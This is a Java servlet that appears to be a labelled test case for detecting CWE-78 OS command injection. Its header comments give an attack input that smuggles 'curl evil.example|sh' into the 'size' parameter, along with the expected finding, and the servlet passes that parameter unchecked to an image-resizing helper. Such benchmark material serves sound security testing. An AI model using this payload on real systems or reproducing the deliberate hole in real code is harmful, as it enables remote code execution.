// weakness: CWE-78 OS command injection
// features: two files, join, helper method
// attack: POST size=10x10;curl evil.example|sh ends in the shell line that ImageTool joins
// expect: ImageTool.java:16 CWE-78
package media;

import java.io.IOException;
import javax.servlet.ServletException;
import javax.servlet.annotation.WebServlet;
import javax.servlet.http.HttpServlet;
import javax.servlet.http.HttpServletRequest;
import javax.servlet.http.HttpServletResponse;

@WebServlet("/thumbnail")
public class ThumbnailServlet extends HttpServlet {

    private final ImageTool tool = new ImageTool();

    @Override
    protected void doPost(HttpServletRequest request, HttpServletResponse response)
            throws ServletException, IOException {
        String size = request.getParameter("size");
        try {
            int code = tool.resize("/srv/media/current.png", size);
            response.setStatus(code == 0 ? 204 : 422);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            response.setStatus(503);
        }
    }
}
